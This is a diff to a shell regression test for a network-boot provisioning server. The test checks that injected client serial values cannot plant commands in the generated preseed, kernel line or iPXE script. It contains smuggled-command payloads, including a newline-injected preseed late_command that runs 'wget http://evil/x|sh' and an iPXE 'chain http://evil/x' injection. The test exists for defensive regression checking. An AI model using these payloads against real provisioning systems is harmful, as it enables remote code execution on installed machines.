@@ -6,7 +6,8 @@
 # reports
 #   serial=x%0Ad-i%20preseed/late_command%20string%20wget%20http://evil/x%7Csh
 #   serial=x && chain http://evil/x &&
-# and the served preseed, kernel line and iPXE file are checked exactly.
+# and the served preseed, kernel line and iPXE file are checked exactly
+# (fetched under the token URL of the victim's latest script).
 . "${top_srcdir:-.}/tests/lib.sh"
 need_root
 need_cmd curl sqlite3
@@ -37,6 +38,7 @@ bc image add debian --kernel boot/vmlinuz --initrd boot/initrd.gz --template t-p
     --cmdline 'auto=true url={{unattended_url}} serial={{client.inventory.serial}}'
 bc image add rawimg --kernel boot/vmlinuz --initrd boot/initrd.gz --cmdline 's={{{client.inventory.serial}}}'
 bc client add $V --hostname victim --ip 127.0.0.2 --image debian
+bc client next-boot $V install
 bc file add conf/boot.ipxe --global --template t-ipxe
 bc settings set default_action image
 chown -R nobody: "$T"
@@ -57,12 +59,17 @@ report() {
 }
 # The kernel line of the script (the victim's image is the first label).
 kline() { grep "^kernel $U/data/boot/vmlinuz initrd=initrd.gz " "$T/b"; }
+# The capability prefix /t/TOKEN of the last script.
+tokurl() { grep -o "$U/t/[0-9a-f]\{52\}" "$T/b" | head -1; }
 
 # Finding 1: %0A in the serial plants a late_command in the preseed.
-report 'x%0Ad-i%20preseed/late_command%20string%20wget%20http://evil/x%7Csh' \
-    'xd-i preseed/late_command string wget http://evil/x|sh'
+F1='x%0Ad-i%20preseed/late_command%20string%20wget%20http://evil/x%7Csh'
+report "$F1" 'xd-i preseed/late_command string wget http://evil/x|sh'
 note "stored without the newline"
-get 200 "$U/unattended/$V/preseed.cfg"
+# The script reads the stored inventory; this request reports the same.
+get 200 "$U/boot?mac=$V&serial=$F1"
+TV=$(tokurl); [ -n "$TV" ] || fail "no token URL in the victim's script: $(cat "$T/b")"
+get 200 "$TV/preseed.cfg"
 cat >"$T/want" <<'EOF'
 d-i netcfg/get_hostname string victim
 # serial xd-i preseed/late_command string wget http://evil/x|sh
@@ -73,10 +80,13 @@ cmp -s "$T/b" "$T/want" || fail "preseed: $(diff "$T/want" "$T/b")"
 grep -q '^d-i preseed/late_command string wget' "$T/b" && fail "planted line in the preseed"
 
 # The same value with its newline (a row written before cleaning): the
-# template engine keeps it on its line by itself.
+# template engine keeps it on its line by itself. (After the batched
+# write of the last /boot, which would overwrite it.)
+sleep 0.5
 sqlite3 "$DB" "UPDATE clients SET inventory = json_object('serial', 'x' || char(10) ||
     'd-i preseed/late_command string wget http://evil/x|sh') WHERE mac = '$V'"
-get 200 "$U/unattended/$V/preseed.cfg"
+[ "$(serial | wc -l)" = 2 ] || fail "the stored serial has no newline: $(serial)"
+get 200 "$TV/preseed.cfg"
 [ "$(wc -l <"$T/b")" = 4 ] || fail "preseed has $(wc -l <"$T/b") lines: $(cat "$T/b")"
 grep -q '^d-i preseed/late_command string wget' "$T/b" && fail "planted line from a stored newline"
 grep -qxF '# serial x d-i preseed/late_command string wget http://evil/x|sh' "$T/b" ||
@@ -88,6 +98,7 @@ EVIL='x%20%26%26%20chain%20http://evil/x%20%26%26'
 report "$EVIL" 'x && chain http://evil/x &&'
 # The script reads the stored inventory; this request reports the same.
 get 200 "$U/boot?mac=$V&serial=$EVIL"
+TV=$(tokurl); [ -n "$TV" ] || fail "no token URL in the victim's script: $(cat "$T/b")"
 kline >"$T/k" || fail "no kernel line: $(cat "$T/b")"
 [ "$(wc -l <"$T/k")" = 1 ] || fail "kernel lines: $(cat "$T/k")"
 case $(cat "$T/k") in
@@ -100,7 +111,7 @@ n=$(tr ' ' '\n' <"$T/k" | grep -cxE '&&|;|\|\|')
 grep -qE '(^| )&& chain http://evil' "$T/b" && fail "planted iPXE command: $(cat "$T/b")"
 grep -qF "echo netboot: the cmdline of rawimg does not render: line 1: raw output of client-supplied 'client.inventory.serial' is refused" "$T/b" ||
 	fail "raw cmdline of a client field not refused: $(cat "$T/b")"
-get 200 "$U/conf/boot.ipxe"
+get 200 "$TV/conf/boot.ipxe"
 printf '#!ipxe\nchain http://s/x?serial=x%%20%%26%%26%%20chain%%20http://evil/x%%20%%26%%26\n' >"$T/want"
 cmp -s "$T/b" "$T/want" || fail "iPXE file: $(diff "$T/want" "$T/b")"
 note "iPXE: no planted command, no added kernel parameter"
